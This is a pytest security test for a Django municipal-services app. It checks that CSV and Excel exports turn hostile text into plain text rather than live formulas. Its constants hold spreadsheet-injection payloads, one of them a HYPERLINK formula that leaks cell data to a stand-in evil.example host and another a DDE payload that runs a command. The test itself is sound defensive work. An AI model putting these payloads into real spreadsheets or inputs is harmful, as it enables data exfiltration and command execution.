"""No download becomes a live formula: hostile text in every source, every export and CSV/Excel URL checked.

Citizens type complaint addresses (Open311), staff import plan documents and title publications; any of
these may start with "=" and must reach a spreadsheet as text (OWASP "CSV injection").
"""

import copy
import csv
import io
import json
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from sujarit.core import services
from sujarit.core.models import Role
from sujarit.core.registry import registry
from sujarit.core.tests.personas import make_staff
from sujarit.core.thai import current_fiscal_year

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิกที่นี่")'
EVIL_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_PLUS = " +1+1"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


@pytest.fixture
def hostile_org(org):
    """The organization with hostile text in its name, its plan, its complaints and its publications."""
    from sujarit.complaints.models import Category, ComplaintPolicy, Kind
    from sujarit.plans.services.importing import import_plan
    from sujarit.plans.tests.conftest import mini_plan_dict

    admin = make_staff(org, "t_admin", Role.ADMIN)
    coordinator = make_staff(org, "t_coord", Role.PLAN_COORDINATOR)
    executive = make_staff(org, "t_exec", Role.EXECUTIVE)
    services.update_organization(org, by=admin, name="-องค์การบริหารส่วนตำบล" + EVIL)

    parsed = copy.deepcopy(mini_plan_dict(title=EVIL))
    year = current_fiscal_year()
    parsed["cycle"] = {
        "first_year": year - 2,
        "last_year": year + 2,
        "fiscal_years": list(range(year - 2, year + 3)),
    }
    parsed["dimensions"][0]["name"] = EVIL_AT
    parsed["dimensions"][0]["missions"][0]["name"] = EVIL
    for item in parsed["items"]:
        item["name"] = EVIL
        item["objectives"] = [EVIL]
        item["target_group"] = EVIL_PLUS
        item["responsible"]["text"] = EVIL_AT
        item["budget"]["per_year"] = {str(y): "1000" for y in parsed["cycle"]["fiscal_years"]}
    import_plan(org, parsed, by=coordinator, source_name=EVIL + ".txt")

    unit = services.ensure_unit(org, "กองช่าง")
    ComplaintPolicy.objects.create(org=org, general_unit=unit, integrity_unit=unit)
    Category.objects.create(org=org, code="road", name=EVIL_AT, unit=unit)
    Category.objects.create(org=org, kind=Kind.INTEGRITY, code="bribe", name=EVIL)
    return {"org": org, "admin": admin, "coordinator": coordinator, "executive": executive}


def _file_open311(client, org):
    for description in (EVIL, EVIL_AT):  # the same place twice: "repeated places" in the report
        resp = client.post(
            f"/api/open311/v2/{org.slug}/requests.json",
            {"service_code": "road", "address_string": EVIL, "description": description, "first_name": EVIL},
        )
        assert resp.status_code == 200, resp.content


def _publish(org, coordinator, executive):
    from sujarit.disclosure.services import publishing

    p = publishing.create(
        org, by=coordinator, kind="document", title=EVIL, area="budget", fiscal_year=current_fiscal_year(),
        period_kind="month", period=10, oit_codes=["O16"],
        upload=SimpleUploadedFile("=evil.pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf"),
    )  # fmt: skip
    version = p.versions.get()
    publishing.submit(version, by=coordinator)
    publishing.approve(version, by=executive)


def _walk(patterns, prefix=""):
    for p in patterns:
        route = prefix + str(p.pattern)
        if isinstance(p, URLResolver):
            yield from _walk(p.url_patterns, route)
        elif isinstance(p, URLPattern):
            yield route, p


def _spreadsheet_urls(slug, year, round_):
    """Every URL of the URLconf that serves a .csv or .xlsx, made concrete for this organization."""
    urls = []
    for route, _pattern in _walk(get_resolver().url_patterns):
        if not re.search(r"\.(csv|xlsx)\$?$", route):
            continue
        url = route.replace("<slug:org_slug>", slug).replace("<int:fiscal_year>", str(year))
        url = url.replace("<int:round>", str(round_))
        assert "<" not in url, f"add the parameters of {route} to this test"
        urls.append("/" + url.lstrip("^").rstrip("$"))
    return urls


def _assert_harmless(name, data):
    if data[:2] == b"PK":
        wb = load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    assert cell.data_type != "f", (
                        f"{name}: formula in {ws.title}!{cell.coordinate}: {cell.value}"
                    )
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", (name, cell.coordinate)
                        assert not cell.value.lstrip().startswith(DANGEROUS), (
                            name,
                            cell.coordinate,
                            cell.value,
                        )
        return "xlsx"
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
        for field in row:
            if NUMBER.match(field):
                continue  # a number written as a number (-500), not text
            assert not field.lstrip().startswith(DANGEROUS), f"{name}: {field!r}"
    return "csv"


@pytest.mark.django_db
def test_no_export_or_download_turns_hostile_text_into_a_formula(client, hostile_org):
    org = hostile_org["org"]
    _file_open311(client, org)
    _publish(org, hostile_org["coordinator"], hostile_org["executive"])
    client.force_login(hostile_org["admin"])
    year = current_fiscal_year()
    seen = {"csv": 0, "xlsx": 0}
    evil_seen = 0

    assert {"plans.eplan", "plans.monitoring", "complaints.stats", "complaints.report"} <= set(
        registry.exports
    )
    for key, export in registry.exports.items():
        for fmt in export.formats:
            if fmt not in ("csv", "xlsx"):
                continue
            for round_ in (6, 12) if "round" in export.params else (None,):
                query = {"fiscal_year": year} | ({"round": round_} if round_ else {})
                resp = client.get(f"/{org.slug}/staff/exports/{key}/{fmt}/", query)
                if resp.status_code == 404:
                    continue  # a round that has not started
                assert resp.status_code == 200, (key, fmt, round_)
                seen[_assert_harmless(f"{key}.{fmt}", resp.content)] += 1
                evil_seen += "HYPERLINK" in _text(resp.content)

    for round_ in (6, 12):
        for url in _spreadsheet_urls(org.slug, year, round_):
            for query in ({"fiscal_year": year}, {"table": "compliance", "fiscal_year": year}):
                resp = client.get(url, query)
                if resp.status_code == 404:
                    continue
                assert resp.status_code == 200, url
                seen[_assert_harmless(url, resp.content)] += 1
                evil_seen += "HYPERLINK" in _text(resp.content)

    assert seen["csv"] >= 5 and seen["xlsx"] >= 4, seen
    assert evil_seen >= 6  # the hostile text did reach the files (as text)


def _text(data):
    if data[:2] != b"PK":
        return data.decode("utf-8-sig")
    wb = load_workbook(io.BytesIO(data))
    return json.dumps([[c.value for row in ws.iter_rows() for c in row] for ws in wb.worksheets], default=str)
